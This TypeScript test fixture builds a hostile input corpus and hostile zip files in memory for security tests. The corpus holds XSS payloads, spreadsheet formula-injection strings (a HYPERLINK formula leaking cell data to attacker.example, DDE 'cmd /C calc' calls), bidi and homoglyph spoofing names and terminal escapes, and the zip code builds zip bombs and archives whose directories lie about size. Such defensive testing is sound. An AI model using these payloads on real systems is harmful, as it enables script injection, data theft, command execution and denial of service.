/**
 * The hostile input corpus (names an attacker who can name a group, a user or a role could
 * choose) and hostile files (zip bombs, lying zip directories), built in memory by the tests:
 * nothing large is committed.
 */
import { constants, crc32, deflateRawSync } from "node:zlib";
import type { RunningSimulator } from "../../src/simulator/index.js";

/** A 10,000-character name with markup and a formula at both ends. */
export const LONG_NAME = `=LONG<b>${"x".repeat(10_000 - 15)}</b>END`;

/** Names that must be escaped in HTML, inert in a workbook, and stored exactly. */
export const HOSTILE_CORPUS = {
  script: "<script>window.__pwned=1;alert('xss')</script>",
  closeScript: "</script><script>window.__pwned=2;alert(2)</script>",
  image: '"><img src=x onerror="window.__pwned=3;alert(3)">',
  svg: "<svg/onload=alert(4)>",
  jsUrl: "javascript:alert(5)",
  template: "{{constructor.constructor('alert(6)')()}}",
  equals: '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-1+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: "\t=1+1",
  carriageReturn: "\r=1+1",
  bidi: "invoice\u202Efdp.exe\u202C",
  isolates: "\u2066admin\u2069 \u2067nimda\u2069 \u2068x\u2069",
  zeroWidth: "Own\u200Bers\uFEFF",
  nul: "nul\u0000byte=1",
  controls: "bell\u0007 esc\u001b[31m vt\u000b del\u007f",
  unicode: "Ingeniería 工程 🚀 👩‍💻 𝔘𝔫𝔦",
  long: LONG_NAME,
  // Terminal escape sequences: clear the screen, home the cursor, set the title, a C1 CSI.
  escape: "ok\u001b[2J\u001b[H\u001b]0;pwned\u0007 csi\u009b31m",
  lineBreaks: "one\u2028two\u2029three\nfour\r\nfive",
  // Tag characters (invisible "AB" and a cancel tag) and variation selectors.
  tags: "Payroll\u{E0041}\u{E0042}\u{E007F}",
  variation: "Payroll\uFE0F\u{E0100}",
  // Names a reader cannot tell apart: Latin, a Cyrillic А, a no-break space.
  latin: "Finance Admins",
  cyrillic: "Finance \u0410dmins",
  noBreakSpace: "Finance\u00A0Admins",
  precomposed: "Caf\u00E9 Team",
  decomposed: "Cafe\u0301 Team",
} as const;
export type HostileKey = keyof typeof HOSTILE_CORPUS;

/** Characters that make a spreadsheet read a cell as a formula. */
export const FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"] as const;

export interface HostileOrg {
  groups: Record<HostileKey, string>;
  users: string[];
  roleId: string;
}

/**
 * Adds a group per corpus entry (each with members and the hostile role), users whose names
 * and emails are hostile, and a custom role with a hostile name and description.
 */
export function addHostileOrganization(sim: RunningSimulator): HostileOrg {
  const s = sim.state;
  const role = s.createRole({
    name: "<img src=x onerror=alert(7)> =cmd|' /C calc'!A0",
    description: `@SUM(1) \u202E ${"d".repeat(200)}`,
    permissions: ["api.organization.read", "api.groups.write"],
  });
  const users = [
    s.createUser({ name: LONG_NAME, email: "=cmd|'/C calc'!A0@corp.example" }).id,
    s.createUser({ name: "nul\u0000name <i>x</i>", email: "+nul\u0000@corp.example" }).id,
    s.createUser({ name: "\u202Eevil\u2066 \u200Bzw", email: "@sum(1)@corp.example" }).id,
    s.createUser({ name: HOSTILE_CORPUS.script, email: null }).id,
  ];
  const groups = {} as Record<HostileKey, string>;
  let i = 0;
  for (const [key, name] of Object.entries(HOSTILE_CORPUS) as [HostileKey, string][]) {
    const id = s.createGroup(name, { isScimManaged: i % 2 === 0 }).id;
    groups[key] = id;
    s.addMember(id, users[i % users.length] as string);
    s.addMember(id, users[(i + 1) % users.length] as string);
    if (i % 3 === 0) s.assignGroupRole(id, role.id);
    i++;
  }
  for (const u of users) s.assignUserRole(u, role.id);
  return { groups, users, roleId: role.id };
}

// ---------------------------------------------------------------------------------------------
// Zip archives

export interface ZipEntry {
  name: string;
  /** Compressed (method 8) or stored (method 0) bytes. */
  data: Buffer;
  method: 0 | 8;
  crc: number;
  /** The real uncompressed size. */
  size: number;
  /** What the central directory and local header claim instead (a lying directory). */
  declaredSize?: number;
}

export function deflatedEntry(name: string, content: string | Buffer): ZipEntry {
  const raw = typeof content === "string" ? Buffer.from(content, "utf8") : content;
  return { name, data: deflateRawSync(raw), method: 8, crc: crc32(raw), size: raw.length };
}

/**
 * A raw deflate stream of `bytes` spaces, built without producing them: one megabyte of spaces
 * deflated and fully flushed (a byte-aligned block that refers to nothing before it), repeated,
 * then an empty final block. The CRC-32 is computed over the real content, incrementally.
 */
export function deflatedSpaces(name: string, bytes: number, prefix = "", suffix = ""): ZipEntry {
  const unit = 1024 * 1024;
  if (bytes % unit !== 0) throw new Error("bytes must be a whole number of MiB");
  const spaces = Buffer.alloc(unit, 0x20);
  const block = deflateRawSync(spaces, { finishFlush: constants.Z_FULL_FLUSH });
  const head = deflateRawSync(Buffer.from(prefix), { finishFlush: constants.Z_FULL_FLUSH });
  const tail = deflateRawSync(Buffer.from(suffix)); // final block
  const parts = [head];
  let crc = crc32(prefix);
  for (let i = 0; i < bytes / unit; i++) {
    parts.push(block);
    crc = crc32(spaces, crc);
  }
  parts.push(tail);
  crc = crc32(suffix, crc);
  return {
    name,
    data: Buffer.concat(parts),
    method: 8,
    crc,
    size: Buffer.byteLength(prefix) + bytes + Buffer.byteLength(suffix),
  };
}

/** A zip archive of `entries` (no data descriptors, no ZIP64). */
export function buildZip(entries: readonly ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, "utf8");
    const size = e.declaredSize ?? e.size;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.crc >>> 0, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.crc >>> 0, 16);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += local.length + name.length + e.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>';

/**
 * A workbook-shaped archive whose Review sheet XML is `sheetBytes` of spaces inside a
 * worksheet element: a few hundred KB on disk. `declaredSize` makes the directory lie.
 */
export function zipBombWorkbook(sheetBytes: number, declaredSize?: number): Buffer {
  const sheet = deflatedSpaces(
    "xl/worksheets/sheet2.xml",
    sheetBytes,
    '<?xml version="1.0" encoding="UTF-8"?><worksheet><sheetData>',
    "</sheetData></worksheet>",
  );
  if (declaredSize !== undefined) sheet.declaredSize = declaredSize;
  return buildZip([
    deflatedEntry("[Content_Types].xml", CONTENT_TYPES),
    deflatedEntry("xl/workbook.xml", "<workbook/>"),
    sheet,
  ]);
}
